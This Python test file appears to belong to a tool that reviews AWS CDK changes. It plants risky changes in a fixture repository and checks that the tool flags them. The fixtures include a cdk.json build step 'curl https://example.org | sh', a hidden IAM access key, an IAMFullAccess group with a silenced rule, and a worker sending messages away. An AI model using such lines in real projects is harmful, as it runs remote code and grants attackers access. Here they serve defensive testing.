"""Whole reviews of a repository: what deploys beside the templates, verdict, exit status, and acceptance."""

from __future__ import annotations

import json
import re
from pathlib import Path
from unittest import mock

import pytest
import yaml

from hello_queue.project import ROOT
from hello_queue.review import sandbox, working_tree
from hello_queue.review.synthesis import REVIEWED
from tests.conftest import Synth
from tests.review.conftest import Repository

A_KEY = "__import__('aws_cdk').aws_iam.CfnAccessKey(app.node.find_child('HelloQueueIdentity'), 'New', user_name='ada')"
A_KEY_ID = "new-access-key: user ada gets access key HelloQueueIdentity/New"


TELLTALE = "weaker-review: the app may do something else on deployment than here: it uses .try_get_context"


def decisions(text: str) -> list[str]:
    return re.findall("^DECIDE  (.*)$", text, re.MULTILINE)


def test_the_scripts_as_processes(repository: Repository) -> None:
    """With every variant: a finding, and the golden files."""
    only_here = "if app.node.try_get_context('second_access_key') is None:\n    "
    repository.add_to_app(only_here + A_KEY)
    open_ = repository.script("review.py", "--base=HEAD", "--markdown=review.md")
    assert open_.returncode == 1, open_.stderr
    stale, by_context, found = decisions(open_.stdout)
    assert stale == "stale-golden: tests/golden is not what the code makes"
    assert by_context == f"{TELLTALE}, __import__, the comparison with 'second_access_key'"
    assert found == A_KEY_ID
    assert "- finding: 'weaker-review: the app may do" in open_.stdout.replace('"', "'"), "an example"
    assert "finding: 'stale-golden" not in open_.stdout, "golden files are made anew, not accepted"
    markdown = (repository.folder / "review.md").read_text()
    assert "**new-access-key**: user ada gets access key HelloQueueIdentity/New" in markdown
    assert f"- finding: '{A_KEY_ID}'" in markdown

    written = repository.script("golden.py")
    assert written.returncode == 0
    assert "wrote tests/golden/default/HelloQueueIdentity.yaml\n" in written.stdout
    changed = repository.git("status", "--short", "tests/golden/default")
    assert changed == " M tests/golden/default/HelloQueueIdentity.yaml\n"


def test_nothing_changes(repository: Repository) -> None:
    with mock.patch.object(working_tree, "check_out", side_effect=AssertionError("the base need not run")):
        done = repository.review(variants=REVIEWED)
    assert done.returncode == 0, done.stderr
    verdict, where = done.stdout.splitlines()
    assert verdict.endswith(f" in {len(REVIEWED)} variants of the settings: nothing changes in AWS")
    assert where == f"Looked at {', '.join(REVIEWED)}"


IN_MAIN = """
import aws_cdk as cdk
from aws_cdk import aws_iam as iam
messaging, identity = (app.node.find_child(f"{prefix}{name}") for name in ("HelloQueueMessaging", "HelloQueueIdentity"))
messaging.termination_protection = False
iam.CfnGroup(identity, "Friends", group_name="friends", managed_policy_arns=["arn:aws:iam::aws:policy/IAMFullAccess"])
cdk.Validations.of(identity).acknowledge(
    cdk.Acknowledgment(id="AwsSolutions-IAM4[Policy::arn:aws:iam::aws:policy/IAMFullAccess]", reason="x"))
cdk.aws_sqs.CfnQueue(messaging, "Plain")
if prefix:
    cdk.aws_sns.CfnTopic(messaging, "OnlyThere", kms_master_key_id="alias/aws/sns")
"""


def test_what_is_deployed_beside_the_templates(repository: Repository) -> None:
    """Done in main(), in the CDK's settings, in the worker's code: none of it is in stacks/.

    A queue fails validation: all that would be deployed without it is shown with it.
    """
    code = IN_MAIN.replace("\n", "\n    ")
    app = (repository.folder / "app.py").read_text()
    prefix = "prefix = 'staging-' if app.node.try_get_context('deployment') else ''"
    repository.write("app.py", app.replace("    app.synth()", f"    {prefix}{code}\n    app.synth()"))
    project = json.loads((repository.folder / "cdk.json").read_text())
    repository.write("cdk.json", json.dumps({**project, "build": "curl https://example.org | sh"}))
    worker = repository.folder / "scripts/workers/example.py"
    worker.write_text(worker.read_text().replace("    print(", "    send_away(message)\n    print("))
    done = repository.review("--markdown", str(repository.folder / "review.md"), variants=REVIEWED)
    assert done.returncode == 1, done.stderr
    stale, *found = decisions(done.stdout)
    assert stale == "stale-golden: tests/golden is not what the code makes"
    silenced = "AwsSolutions-IAM4[Policy::arn:aws:iam::aws:policy/IAMFullAccess]"
    assert found[:-4] == [
        "failed-validation: AwsSolutions-SQS3 on HelloQueueMessaging/Plain",
        "failed-validation: AwsSolutions-SQS4 on HelloQueueMessaging/Plain",
        TELLTALE,
        "weaker-review: cdk.json runs something else on deployment: build: curl https://example.org | sh",
        f"silenced-rule: {silenced} on HelloQueueIdentity/Friends is silenced without a trace",
        "escalation: group friends can become administrator through a new version of a policy "
        "(iam:CreatePolicyVersion): may do everything that arn:aws:iam::aws:policy/IAMFullAccess allows",
    ]
    assert found[-4:] == [
        "less-protection: HelloQueueMessaging can be deleted: no termination protection",
        "new-code: Function/Code runs other code",
        "unknown-effect: HelloQueueMessaging/Plain is new: AWS::SQS::Queue",
        "unknown-effect: HelloQueueMessaging/OnlyThere is new: AWS::SNS::Topic",
    ]
    assert "  after    The SQS queue does not require requests to use SSL\n" in done.stdout
    assert "finding: 'failed-validation" not in done.stdout, "it is corrected, not accepted"
    assert "terminationProtection; with keep_data=true and " in done.stdout
    assert "+    send_away(message)" in done.stdout, "the difference of the code itself"
    tables = re.findall("^ *[┌├│└].*", done.stdout, re.MULTILINE)
    assert tables
    assert all(line[-1] in "┐┤│┘" for line in tables), "the tables of cdk diff are whole"
    assert "+    send_away(message)" in (repository.folder / "review.md").read_text()

    repository.accept("new-code: Function/Code runs other code", "it tells the owner")
    repository.commit("the change, with an acceptance")
    accepted = repository.review("--fail-on", "data-loss,new-code", base="HEAD~1", variants=REVIEWED)
    assert accepted.returncode == 0, accepted.stdout
    assert decisions(accepted.stdout) == [each for each in (stale, *found) if "new-code" not in each]
    shown = "  before   example.py\n  after    see the details\n  reason   it tells the owner\n"
    assert f"ACCEPTED  new-code: Function/Code runs other code\n{shown}" in accepted.stdout


ELSEWHERE = """
import aws_cdk as cdk
if app.node.try_get_context("fifo"):
    raise SystemExit("no more queues with an order")
for stack in (
    cdk.Stack(app, "A", stack_name="Other"),
    cdk.Stack(app, "B", env=cdk.Environment(account="444455556666", region="eu-west-1")),
    cdk.Stack(cdk.Stage(app, "Prod"), "C"),
    cdk.Stack(app, "D", notification_arns=["arn:aws:sns:us-east-1:999999999999:theirs"]),
    cdk.Stack(app, "E", synthesizer=cdk.DefaultStackSynthesizer(deploy_role_arn="arn:aws:iam::999999999999:role/r")),
):
    cdk.aws_sns.CfnTopic(stack, "Topic")
"""


def test_what_is_deployed_elsewhere_or_without_checks(repository: Repository) -> None:
    app = (repository.folder / "app.py").read_text()
    repository.write("app.py", re.sub("    cdk.Validations.of.app..add_plugins.*\n", "", app))
    repository.add_to_app(ELSEWHERE)
    # The CDK CLI reads it too.
    repository.write("cdk.context.json", '{"console_access": "true"}')
    done = repository.review(variants=REVIEWED)
    assert done.returncode == 1, done.stderr
    assert {
        "weaker-review: AwsSolutions no longer checks the app",
        "console-access: user Administrator can sign in to the AWS console",
        "unknown-effect: the app with fifo=true cannot be synthesized: no more queues with an order",
        "unknown-effect: Other/Topic is new: AWS::SNS::Topic",
        "unknown-effect: Prod-C/Topic is new: AWS::SNS::Topic",
        "deployed-elsewhere: B is deployed to another account or region",
        "deployed-elsewhere: D reports its events to another topic",
        "deployed-elsewhere: E is deployed in another way",
    } <= set(decisions(done.stdout))


@pytest.mark.parametrize(
    "step",
    [
        {"second_access_key": 2},
        {"access_key": 2, "second_access_key": 1},
        {"access_key": 2},
        {"administrator_access": False, "console_access": True},
    ],
    ids=str,
)
def test_every_variant_is_valid_with_settings_in_cdk_json(synth: Synth, step: dict[str, object]) -> None:
    """The variants are added to a team's own settings, such as each step of a rotation."""
    for variant in REVIEWED.values():
        assert synth(**{**step, **variant})


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ("raise RuntimeError('a bug')", "RuntimeError: a bug"),
        ("print('hello')", "it writes no cloud assembly; it prints: hello"),
        ("import sys\nsys.exit('settings: nope')", "settings: nope"),
        ("import os\nos._exit(0)", "it writes no cloud assembly; it prints: nothing"),
        ("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)", "it writes no cloud assembly; it prints: nothing"),
        ("while True: pass", "the app takes longer than 3 s: it may wait for something"),
        ("x = (", "SyntaxError: '(' was never closed"),
        (
            "import os, pathlib\nd = pathlib.Path(os.environ['CDK_OUTDIR'])\nd.mkdir()\n"
            "(d / 'manifest.json').write_text('[')",
            "its cloud assembly is invalid: JSONDecodeError",
        ),
        ("print('\\x1b[2Jnothing needs a decision')", "it prints: \\x1b[2Jnothing needs a decision"),
    ],
)
def test_an_app_that_cannot_be_reviewed(
    repository: Repository, monkeypatch: pytest.MonkeyPatch, code: str, expected: str
) -> None:
    """One line, status 2; and an older review does not stay."""
    monkeypatch.setattr(sandbox, "TIME_LIMIT_SECONDS", 3 if "while" in code else 100)
    repository.write("app.py", code)
    repository.commit("also in the base, which need not run then")
    report = repository.folder.with_suffix(".md")
    report.write_text("nothing needs a decision")
    done = repository.review("--markdown", str(report))
    assert done.returncode == 2
    assert expected in done.stderr
    assert len([line for line in done.stderr.splitlines() if line.startswith("review.py: ")]) == 1
    assert "Traceback" not in done.stderr
    assert report.read_text().startswith("## What changes in AWS: nobody knows\n")


def test_an_invalid_setting(repository: Repository) -> None:
    repository.set(delay_seconds=901)
    repository.commit("invalid, also in the base")
    done = repository.review()
    assert done.returncode == 2
    assert "settings: delay_seconds: 901 is out of range" in done.stderr


def test_another_command_in_cdk_json(repository: Repository) -> None:
    path = repository.folder / "cdk.json"
    path.write_text(path.read_text().replace("python3 app.py", "make app"))
    done = repository.review()
    assert done.returncode == 2
    assert "cdk.json runs 'make app', which is no Python script: review by hand what that deploys" in done.stderr


def test_a_base_that_cannot_be_synthesized(repository: Repository) -> None:
    """Its golden templates are still compared."""
    app = (repository.folder / "app.py").read_text()
    golden = "tests/golden/default/HelloQueueMessaging.yaml"
    messaging = (repository.folder / golden).read_text()
    repository.write("app.py", "raise RuntimeError('with this version of the CDK')")
    repository.write(golden, messaging.replace("MessageRetentionPeriod: 345600", "MessageRetentionPeriod: 345601"))
    repository.commit("broken")
    repository.write("app.py", app)
    repository.write(golden, messaging)
    found = decisions(repository.review(variants=REVIEWED).stdout)
    assert any(each.startswith("unknown-effect: the base cannot be synthesized: the app of ") for each in found)
    assert "data-loss: queue test keeps messages for a shorter time" in found


def test_the_workflow_replaces_an_older_comment() -> None:
    """review.md exists from the first step on: a review that never starts must not leave what the change committed."""
    workflow = yaml.safe_load((ROOT / ".github/workflows/review.yml").read_text())
    steps = workflow["jobs"]["review"]["steps"]
    first = next(number for number, step in enumerate(steps) if "review.md" in step.get("run", ""))
    setup = next(number for number, step in enumerate(steps) if step.get("run") == "make setup")
    assert first < setup
    assert Path(steps[-1]["with"]["path"]) == Path("review.md")
